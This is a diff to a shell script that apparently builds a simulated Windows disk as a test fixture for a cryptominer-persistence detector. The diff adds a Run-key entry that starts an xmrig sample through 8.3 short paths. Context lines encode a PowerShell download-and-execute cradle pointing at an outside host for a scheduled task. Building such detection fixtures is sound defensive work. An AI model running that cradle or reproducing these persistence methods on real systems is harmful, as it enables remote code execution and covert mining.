@@ -5,12 +5,18 @@
 # 65531; MyKings' WMI timer subscription fuckyoumm2 whose command alone says little; a
 # Lemon_Duck task Rtsa1 and its marker file in Windows\Temp. Benign beside them: an
 # Apache service from Program Files, an admin's port proxy 8080 -> intranet web server,
-# Windows' own SCM Event Log subscription, a task named like nothing known.
+# Windows' own SCM Event Log subscription, a task named like nothing known. And a miner
+# started from a Run value written with 8.3 aliases (C:\PROGRA~3\MICROS~2\...), found by
+# content under its long names.
 set -e
 root=$1
 here=$(cd "$(dirname "$0")" && pwd)
 mk="python3 $here/../../windows/mkwin.py"
+samples=${MINETRACE_SAMPLES:-$here/../../../../shared/data/samples}
+[ -f "$samples/xmrig.exe" ] || samples=/work/shared/data/samples
 $mk base "$root"
+mkdir -p "$root/ProgramData/Microsoft"
+$mk file "$root" 'C:\ProgramData\Microsoft Update\msupd.exe' "$samples/xmrig.exe"
 $mk file "$root" 'C:\Windows\System32\drivers\svchost.exe'
 $mk file "$root" 'C:\Program Files\Apache Software Foundation\Apache2.4\bin\httpd.exe'
 printf 'ok\n' >"$root/Windows/Temp/kk4kk.log"
@@ -34,6 +40,11 @@ cat > "$root/svc.reg" <<'REG'
 "0.0.0.0/8080"="10.0.0.5/80"
 REG
 $mk reg "$root" SYSTEM "$root/svc.reg"
+cat > "$root/run.reg" <<'REG'
+[Microsoft\Windows\CurrentVersion\Run]
+"MSUpdate"="C:\\PROGRA~3\\MICROS~2\\msupd.exe --background"
+REG
+$mk reg "$root" SOFTWARE "$root/run.reg"
 enc=$(printf '%s' "IEX (New-Object Net.WebClient).downloadstring('http://v.beahh.com/v'+\$env:USERDOMAIN)" | iconv -t UTF-16LE | base64 -w0)
 cat > "$root/bt.xml" <<XML
 <?xml version="1.0" encoding="UTF-16"?>
@@ -66,4 +77,4 @@ XML
 $mk task "$root" 'Restart Apache' "$root/rep.xml"
 $mk taskcache "$root" 'Restart Apache' "{B1B2C3D4-0003-4000-8000-000000000003}" '"C:\Program Files\Apache Software Foundation\Apache2.4\bin\httpd.exe"' '-k restart'
 python3 "$here/../../windows/mkwmirepo.py" "$root/Windows/System32/wbem/Repository/OBJECTS.DATA" --scenario mykings
-rm "$root/svc.reg" "$root/bt.xml" "$root/rtsa.xml" "$root/rep.xml"
+rm "$root/svc.reg" "$root/run.reg" "$root/bt.xml" "$root/rtsa.xml" "$root/rep.xml"
